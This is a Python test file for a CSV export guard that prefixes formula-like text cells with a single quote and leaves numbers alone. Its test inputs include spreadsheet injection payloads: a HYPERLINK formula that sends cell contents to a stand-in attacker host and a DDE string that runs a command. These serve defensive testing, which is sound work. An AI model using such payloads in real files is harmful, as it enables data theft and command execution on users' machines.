"""CSV cells a spreadsheet would run as formulas are written as text; numbers stay numbers."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from returns_desk.core import csv_safe


def written(*rows) -> list[list[str]]:
    out = io.StringIO()
    csv_safe.writer(out).writerows(rows)
    return list(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1, "Refund status")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "   =1+1",  # spaces first: some spreadsheets trim them
        "＝1+1",  # full-width equals sign
        "-5",  # text that looks like a negative number is still text
    ],
)
def test_a_text_cell_starting_like_a_formula_gets_a_single_quote(text):
    assert written([text]) == [["'" + text]]


@pytest.mark.parametrize("text", ["Seam split", "T1", "2026-11-05", "a=b", "email@example.com", "", "100%"])
def test_other_text_is_written_as_it_is(text):
    assert written([text]) == [[text]]


def test_numbers_stay_numbers_negative_ones_too():
    assert written([-1250, -0.5, Decimal("-12.50"), 0, 3]) == [["-1250", "-0.5", "-12.50", "0", "3"]]


def test_other_values_are_written_as_text_and_neutralised_like_it():
    assert written([None, True, dt.date(2026, 11, 5)]) == [["", "True", "2026-11-05"]]

    class Named:
        def __str__(self):
            return "=1+1"

    assert written([Named()]) == [["'=1+1"]]


def test_quotes_commas_and_line_breaks_inside_a_cell_stay_inside_it():
    cell = '=HYPERLINK("x", "a,b")\nsecond line'
    assert written([cell, 5]) == [["'" + cell, "5"]]
